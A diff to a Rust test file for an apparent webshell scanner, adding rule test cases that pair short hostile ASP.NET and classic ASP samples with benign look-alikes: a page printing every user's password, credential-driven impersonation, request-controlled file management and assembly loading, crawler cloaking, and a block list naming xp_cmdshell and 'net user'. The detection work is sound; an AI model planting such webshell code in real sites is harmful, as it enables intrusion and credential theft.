@@ -573,6 +573,21 @@ fn cases() -> Vec<Case> {
             "GIF89a;\n<%@ Page Language=\"C#\" %>\n<% Response.Write(System.IO.File.ReadAllText(Request[\"f\"])); %>\n",
             "GIF89a\u{1}\u{0}\u{1}\u{0}\u{0}\u{0}\u{0};<!-- a GIF with an HTML comment: <% is just text in an image -->",
         ),
+        case(
+            "EXRAY_NET_Assembly_Load_Request_Path",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Look(object o, EventArgs e) {\n var asm = System.Reflection.Assembly.LoadFrom(txtDll.Text);\n foreach (Type t in asm.GetTypes()) lit.Text += t.FullName + \"<br/>\";\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var asm = System.Reflection.Assembly.LoadFrom(Server.MapPath(\"~/bin/Plugins.dll\"));\n lblVersion.Text = asm.GetName().Version.ToString();\n}\n</script>\n",
+        ),
+        case(
+            "EXRAY_NET_Impersonate_Request_Logon",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"advapi32.dll\")] static extern int LogonUser(string u, string d, string p, int t, int v, ref IntPtr h);\nvoid Go(object o, EventArgs e) {\n IntPtr h = IntPtr.Zero;\n LogonUser(txtUser.Text, txtDomain.Text, txtPass.Text, 2, 0, ref h);\n using (new WindowsIdentity(h).Impersonate()) { foreach (var f in Directory.GetFiles(txtDir.Text)) Response.Write(f); }\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"advapi32.dll\")] static extern int LogonUser(string u, string d, string p, int t, int v, ref IntPtr h);\nvoid Go(object o, EventArgs e) {\n IntPtr h = IntPtr.Zero;\n LogonUser(ConfigurationManager.AppSettings[\"ReportUser\"], \"CORP\", ConfigurationManager.AppSettings[\"ReportPassword\"], 2, 0, ref h);\n using (new WindowsIdentity(h).Impersonate()) { lblShare.Text = File.ReadAllText(txtReport.Text); }\n}\n</script>\n",
+        ),
+        case(
+            "EXRAY_Membership_Password_Dump",
+            "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n For Each u As UserInfo In UserController.GetUsers(False, True, -1)\n  lbl.Text &= u.Username & \": \" & UserController.GetPassword(u, \"\") & \" (password)<br/>\"\n Next\nEnd Sub\n</script>\n",
+            "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Remind(s As Object, e As EventArgs)\n Dim u As UserInfo = UserController.GetUserByName(0, txtUser.Text)\n Mail.Send(u.Email, \"Reminder\", UserController.GetPassword(u, txtAnswer.Text))\n lblInfo.Text = \"Your password was sent to your address.\"\n For Each r As String In u.Roles\n  lblRoles.Text &= r\n Next\nEnd Sub\n</script>\n",
+        ),
     ]
 }
 
@@ -933,4 +948,105 @@ fn data_flow_hits_show_their_sink() {
     assert_eq!(flow.offset, at);
     assert_eq!(flow.length, "Execute(v)".len() as u64);
     assert!(flow.excerpt.contains("Execute(v)"), "{}", flow.excerpt);
+}
+
+/// Application code that shares words with shells, each a kind a benign look tripped: none may
+/// fire any rule.
+#[test]
+fn application_kinds_trip_nothing() {
+    let pages = [
+        // an injection filter's word list, in a string and in InStr tests
+        "<%\nBadWord = \"exec,execute,cmd.exe,insert,xp_cmdshell,select,\" & _\n \"executeglobal,eval,script,applet\"\nFunction Safe(s)\n If InStr(LCase(s), \"xp_cmdshell\") > 0 Or InStr(LCase(s), \"net localgroup administrators\") > 0 Or InStr(LCase(s), \"net user\") > 0 Then Response.End\n Safe = s\nEnd Function\nq = Safe(Request(\"q\"))\n%>\n",
+        // a C# data layer's typed helpers (ExecuteNonQueryTypedParams)
+        "using System;\nusing System.Data;\npublic sealed class SqlHelper {\n public static int ExecuteNonQueryTypedParams(string cs, string sp, DataRow row) {\n  return ExecuteNonQuery(cs, sp, GetParameterValues(row));\n }\n}\n",
+        // a settings page that reads its configuration page and writes it back with one value changed
+        "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\npassword = Request.Form(\"pwd\")\nSet f = fso.OpenTextFile(Server.MapPath(\"/config/const.asp\"), 1)\nMB = f.ReadAll\nf.Close\nMB = Replace(MB, old, md5(password))\nSet f = fso.CreateTextFile(Server.MapPath(\"/config/const.asp\"), True)\nf.Write MB\nf.Close\n%>\n",
+        // a forum's list of crawler names beside an update check
+        "<%\nFunction BotName(ua)\n If InStr(ua, \"Googlebot\") > 0 Then BotName = \"Google\"\n If InStr(ua, \"bingbot\") > 0 Then BotName = \"Bing\"\nEnd Function\nSet x = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.Open \"GET\", \"http://updates.example.org/version.txt\", False\nx.Send\nIf x.responseText <> strVersion Then Response.Write \"<p>An update is available</p>\"\n%>\n",
+    ];
+    for p in pages {
+        let h = hits(p);
+        assert!(h.is_empty(), "{h:?} fired on:\n{p}");
+    }
+    // the same keyword list in a JScript page: a word of a list is no alias of eval
+    let list = "<%@ Language=\"JScript\" %>\n<%\nvar bad = \"exec,execute,xp_cmdshell,executeglobal,eval,script,applet\".split(\",\");\nvar q = String(Request(\"q\"));\n%>\n";
+    assert!(hits(list).is_empty(), "{:?}", hits(list));
+    // while an array that holds eval is one
+    let arr =
+        "<%@ Language=\"JScript\" %>\n<%\nvar a = [0,eval,0];\na[1](String(Request(\"q\")));\n%>\n";
+    assert!(
+        hits(arr).contains("EXRAY_JScript_Eval_Alias"),
+        "{:?}",
+        hits(arr)
+    );
+    // a UTF-16 script library whose syntax patterns hold "<%"
+    let lib = "UTF16:var keyops = '[_:=><%#@]+';\nfunction run(x) { return eval(x); }\nvar r = new Request();\nfunction go() { execute(r); }\n";
+    assert!(hits(lib).is_empty(), "{:?}", hits(lib));
+    // a large class library that loads its extensions and reads request values elsewhere
+    let mut big = String::from(
+        "using System;\nusing System.Reflection;\npublic static class Utils {\n public static void LoadExtensions(string[] names) {\n  foreach (var a in names) { var asm = Assembly.Load(a); asm.CreateInstance(a + \".Extension\"); }\n }\n public static string Culture(HttpRequest request) { return request.Headers[\"Accept-Language\"]; }\n",
+    );
+    while big.len() < 30 * 1024 {
+        big.push_str(" public static string Pad(string s) { return s.PadLeft(10); } // keeps the file large\n");
+    }
+    big.push_str("}\n");
+    assert!(hits(&big).is_empty(), "{:?}", hits(&big));
+}
+
+/// HTML inputs run at the server are what the caller typed, as much as text boxes are.
+#[test]
+fn server_html_inputs_are_request_data() {
+    let page = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Pack(object o, EventArgs e) {\n Process p = Process.Start(\"\\\"\" + txtTool.Value + \"\\\"\", \" a -y \" + txtOut.Value + \" \" + txtDir.Value);\n p.WaitForExit();\n}\n</script>\n<form runat=\"server\"><input id=\"txtTool\" type=\"text\" runat=\"server\" /><input id=\"txtOut\" runat=\"server\" /><input id=\"txtDir\" runat=\"server\" /></form>\n";
+    assert!(
+        hits(page).contains("EXRAY_Request_Process_Flow"),
+        "{:?}",
+        hits(page)
+    );
+    // the value of some other object in a page with server inputs is not the caller's
+    let other = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var setting = ConfigurationManager.AppSettings.Get(\"tool\");\n var kv = Tools.First();\n Process.Start(kv.Value, txtName.Value.Length.ToString());\n}\n</script>\n<form runat=\"server\"><input id=\"txtSearch\" runat=\"server\" /></form>\n";
+    assert!(
+        !hits(other).contains("EXRAY_Request_Process_Flow"),
+        "{:?}",
+        hits(other)
+    );
+    // without server inputs, a .Value is some object's value, not the caller's
+    let plain = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var s = ConfigurationManager.AppSettings.Get(\"tool\");\n Process.Start(setting.Value);\n}\n</script>\n";
+    assert!(
+        !hits(plain).contains("EXRAY_Request_Process_Flow"),
+        "{:?}",
+        hits(plain)
+    );
+}
+
+/// The checks added for the seventh looks hold on their sinks, whatever the call around them.
+#[test]
+fn relays_paths_loads_and_logons_are_read_at_their_sinks() {
+    // crawler cloaking that writes a fetched page through nested calls
+    let seo = "<%@ Application Language=\"C#\" %>\n<script runat=\"server\">\nvoid Application_BeginRequest(object s, EventArgs e) {\n var ua = Request.UserAgent ?? \"\";\n if (ua.Contains(\"Baiduspider\")) {\n  var wc = new System.Net.WebClient();\n  Response.Write(System.Text.Encoding.UTF8.GetString(wc.DownloadData(\"http://links.example.net/p\")));\n  Response.End();\n }\n}\n</script>\n";
+    assert!(
+        hits(seo).contains("EXRAY_SEO_Cloaking_Relay"),
+        "{:?}",
+        hits(seo)
+    );
+    // a file manager whose folder arrives as the request's path info
+    let fm = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n string d = Request.PathInfo.TrimStart('/');\n foreach (var f in Directory.GetFiles(d)) Response.Write(f);\n foreach (var s in Directory.GetDirectories(d)) Response.Write(s);\n if (Request[\"del\"] != null) File.Delete(Request[\"del\"]);\n if (Request[\"mv\"] != null) File.Move(Request[\"mv\"], Request[\"to\"]);\n if (Request[\"cp\"] != null) File.Copy(Request[\"cp\"], Request[\"to\"]);\n}\n</script>\n";
+    assert!(
+        hits(fm).contains("EXRAY_File_Manager_Request"),
+        "{:?}",
+        hits(fm)
+    );
+    // the same operations on the application's own folder
+    let own = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n string d = Server.MapPath(\"~/App_Data/cache\");\n foreach (var f in Directory.GetFiles(d)) File.Delete(f);\n foreach (var s in Directory.GetDirectories(d)) Directory.Delete(s, true);\n File.Copy(Server.MapPath(\"~/App_Data/a.xml\"), Server.MapPath(\"~/App_Data/b.xml\"), true);\n File.Move(Server.MapPath(\"~/App_Data/b.xml\"), Server.MapPath(\"~/App_Data/c.xml\"));\n lbl.Text = Request[\"msg\"];\n}\n</script>\n";
+    assert!(
+        !hits(own).contains("EXRAY_File_Manager_Request"),
+        "{:?}",
+        hits(own)
+    );
+    // a plug-in page that loads its own assembly and sorts a grid by a request value
+    let plug = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var asm = System.Reflection.Assembly.LoadFrom(Server.MapPath(\"~/bin/Reports.dll\"));\n var p = typeof(Row).GetProperty(Request[\"sort\"]);\n grid.DataSource = rows.OrderBy(r => p.GetValue(r, null));\n}\n</script>\n";
+    assert!(
+        !hits(plug).contains("EXRAY_NET_Assembly_Load_Request_Path"),
+        "{:?}",
+        hits(plug)
+    );
 }
